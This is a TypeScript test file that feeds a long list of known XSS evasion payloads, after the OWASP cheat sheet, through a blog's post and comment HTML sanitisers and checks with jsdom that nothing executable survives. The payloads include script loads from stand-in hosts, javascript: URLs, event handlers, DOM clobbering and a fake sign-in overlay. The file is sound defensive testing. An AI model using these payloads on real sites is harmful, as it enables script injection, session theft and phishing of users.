import { sanitizeCommentHtml, sanitizePostHtml } from '../src/html/html-sanitizer';
import { parseDocuments, type DomElement, type ParsedDocument } from './support/dom';

/**
 * Known XSS evasions (after the OWASP XSS Filter Evasion Cheat Sheet and html5sec.org): every one goes through
 * both sanitisers, and a browser-faithful parser (jsdom) checks that nothing executable survives.
 */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<IMG SRC="javascript:alert(1);">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=`javascript:alert("x")`>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<IMG SRC=# onmouseover="alert(1)">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(1);">',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<IMG SRC="jav&#x0A;ascript:alert(1);">',
  '<IMG SRC=" &#14;  javascript:alert(1);">',
  '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=//xss.example/.j>',
  '<IMG SRC="`<javascript:alert>`(1)"',
  '<iframe src=http://xss.example/scriptlet.html <',
  "\\\";alert('XSS');//",
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
  '<BODY BACKGROUND="javascript:alert(1)">',
  '<IMG DYNSRC="javascript:alert(1)">',
  '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>XSS</br>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<BR SIZE="&{alert(1)}">',
  '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  '<iframe src="https://www.youtube.com/embed/x" onload="alert(1)"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
  '<iframe src="https://docs.google.com@evil.example/presentation/x"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(1)">',
  '<TABLE><TD BACKGROUND="javascript:alert(1)">',
  '<DIV STYLE="background-image: url(javascript:alert(1))">',
  '<DIV STYLE="width: expression(alert(1));">',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(1))">',
  '<BASE HREF="javascript:alert(1);//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JAVASCRIPT:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="java&#x0D;script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" target="_blank">x</a>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<video src="javascript:alert(1)" controls></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p style="x" class="a" onmouseover="alert(1)">hover</p>',
  '<img src="x:gif" onerror="alert(1)">',
  '<img src="https://ok.example/a.png" srcset="javascript:alert(1)">',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<math href="javascript:alert(1)">CLICKME</math>',
  '<object data="javascript:alert(1)">',
  '<isindex action=javascript:alert(1) type=image>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '"><img src=x onerror=alert(1)>',
  "'><script>alert(1)</script>",
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  // DOM clobbering: named elements become globals and document properties the page's script may read.
  '<a name="currentUser" href="https://ok.example">x</a><img name="getElementById" src="/a.png">',
  '<form id="config"><input name="apiBase" value="https://evil.example"></form>',
  '<img id="__NEXT_DATA__" src="/a.png"><a id="defaultView" name="defaultView">x</a>',
  // The site's own CSS classes: a full-page fake sign-in over the real one, or hidden text.
  '<div class="fixed inset-0 z-50 bg-white"><p>Session expired. Sign in again at evil.example</p></div>',
  '<p class="sr-only hidden">x</p><code class="language-js fixed">y</code>',
];

const EXECUTABLE_TAGS = new Set([
  'script',
  'style',
  'object',
  'embed',
  'applet',
  'base',
  'meta',
  'link',
  'form',
  'input',
  'button',
  'frame',
  'frameset',
  'svg',
  'math',
  'template',
  'noscript',
  'textarea',
  'select',
  'option',
  'isindex',
  'xmp',
  'title',
]);
const URL_ATTRIBUTES = new Set([
  'href',
  'src',
  'action',
  'formaction',
  'background',
  'dynsrc',
  'lowsrc',
  'data',
  'poster',
  'xlink:href',
  'srcset',
  'srcdoc',
]);

const PAGE = 'https://district.example/blog/lesson';
const SAFE_PROTOCOLS = new Set(['http:', 'https:', 'mailto:', 'tel:']);

/** Why an element could run script, or null. */
function danger(element: DomElement, context: 'post' | 'comment'): string | null {
  if (EXECUTABLE_TAGS.has(element.name)) return `<${element.name}>`;
  if (element.namespace !== 'http://www.w3.org/1999/xhtml') return `foreign element <${element.name}>`;
  for (const [name, value] of Object.entries(element.attributes)) {
    const lower = name.toLowerCase();
    if (lower.startsWith('on')) return `${name} handler`;
    if (lower === 'style' || lower === 'srcdoc' || lower === 'srcset') return `${name} attribute`;
    if (lower === 'id' || lower === 'name') return `${name} attribute (clobbers page globals)`;
    if (
      lower === 'class' &&
      !(element.name === 'code' && value.split(/\s+/).every((c) => /^language-[a-z0-9+-]+$/.test(c)))
    )
      return `class="${value}" (the site's styles)`;
    if (URL_ATTRIBUTES.has(lower)) {
      // Resolved as the browser would, against a page of the site; anything but the web and mail/phone links can run.
      const resolved = URL.canParse(value, PAGE) ? new URL(value, PAGE) : null;
      if (resolved && !SAFE_PROTOCOLS.has(resolved.protocol)) return `${name}=${value}`;
    }
  }
  if (element.name === 'iframe') {
    if (context === 'comment') return 'iframe in a comment';
    const src = element.attributes.src ?? '';
    const url = URL.canParse(src) ? new URL(src) : null;
    if (
      !url ||
      url.protocol !== 'https:' ||
      !['docs.google.com', 'www.youtube.com', 'youtube.com', 'www.youtube-nocookie.com'].includes(
        url.hostname,
      )
    )
      return `iframe from ${src}`;
    if (!element.attributes.sandbox) return 'unsandboxed iframe';
  }
  if (
    element.name === 'a' &&
    context === 'comment' &&
    element.attributes.rel !== 'ugc noopener noreferrer nofollow'
  )
    return 'comment link without rel';
  if (
    element.name === 'a' &&
    element.attributes.target === '_blank' &&
    !/noopener/.test(element.attributes.rel ?? '')
  )
    return 'target=_blank without noopener';
  return null;
}

interface SanitisedOutput {
  payload: string;
  context: 'post' | 'comment';
  source: string;
}

/**
 * What could run script in the parsed outputs. An output the parser could not read, or did not return, is a problem
 * too: nothing is known about it, so it is not safe.
 */
function problemsIn(outputs: readonly SanitisedOutput[], parsed: readonly ParsedDocument[]): string[] {
  if (parsed.length !== outputs.length)
    return [`the parser returned ${parsed.length} documents for ${outputs.length} outputs`];
  const problems: string[] = [];
  parsed.forEach((doc, i) => {
    const { context, payload, source } = outputs[i];
    if (!doc.ok || doc.elements === undefined) {
      problems.push(
        `${context}: ${payload} -> ${source} (could not be parsed: ${doc.error ?? 'no elements'})`,
      );
      return;
    }
    for (const element of doc.elements) {
      const why = danger(element, context);
      if (why) problems.push(`${context}: ${payload} -> ${source} (${why})`);
    }
  });
  return problems;
}

it('lets nothing executable through either sanitiser', async () => {
  const outputs: SanitisedOutput[] = PAYLOADS.flatMap((payload) => [
    { payload, context: 'post' as const, source: sanitizePostHtml(payload) },
    { payload, context: 'comment' as const, source: sanitizeCommentHtml(payload) },
  ]);
  // Parsed as a browser renders them: inside a page body.
  const parsed = await parseDocuments(outputs.map((o) => ({ source: o.source, type: 'html' as const })));
  expect(problemsIn(outputs, parsed)).toEqual([]);
  expect(PAYLOADS.length).toBeGreaterThanOrEqual(80);
});

it('counts an output the parser could not read, or did not return, as a problem and not as safe', () => {
  const outputs: SanitisedOutput[] = [
    { payload: '<b>x</b>', context: 'post', source: '<b>x</b>' },
    { payload: '<i>y</i>', context: 'comment', source: '<i>y</i>' },
  ];
  const read = (name: string): ParsedDocument => ({
    ok: true,
    elements: [{ name, namespace: 'http://www.w3.org/1999/xhtml', attributes: {}, text: '', parent: null }],
  });
  expect(problemsIn(outputs, [read('b'), read('i')])).toEqual([]);
  expect(problemsIn(outputs, [read('b'), { ok: false, error: 'SyntaxError: boom' }])).toEqual([
    'comment: <i>y</i> -> <i>y</i> (could not be parsed: SyntaxError: boom)',
  ]);
  expect(problemsIn(outputs, [{ ok: true }, read('i')])).toEqual([
    'post: <b>x</b> -> <b>x</b> (could not be parsed: no elements)',
  ]);
  expect(problemsIn(outputs, [read('b')])).toEqual(['the parser returned 1 documents for 2 outputs']);
});

it('keeps what lessons and comments legitimately use', async () => {
  expect(
    sanitizePostHtml('<iframe src="https://docs.google.com/presentation/d/abc/embed?start=false"></iframe>'),
  ).toContain('src="https://docs.google.com/presentation/d/abc/embed?start=false"');
  expect(sanitizePostHtml('<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>')).toContain(
    'sandbox=',
  );
  expect(sanitizePostHtml('<iframe src="https://www.youtube.com/watch?v=x"></iframe>')).toBe('');
  expect(sanitizePostHtml('<pre><code class="language-python">print(1)</code></pre>')).toBe(
    '<pre><code class="language-python">print(1)</code></pre>',
  );
  expect(
    sanitizePostHtml('<h2>Hola</h2><img src="/uploads/abc.png" alt="a"><table><tr><td>1</td></tr></table>'),
  ).toBe('<h2>Hola</h2><img src="/uploads/abc.png" alt="a" /><table><tr><td>1</td></tr></table>');
  expect(
    sanitizeCommentHtml('<p><strong>Sí</strong> <a href="https://es.wikipedia.org">wiki</a></p><h1>big</h1>'),
  ).toBe(
    '<p><strong>Sí</strong> <a href="https://es.wikipedia.org" rel="ugc noopener noreferrer nofollow">wiki</a></p>big',
  );
});
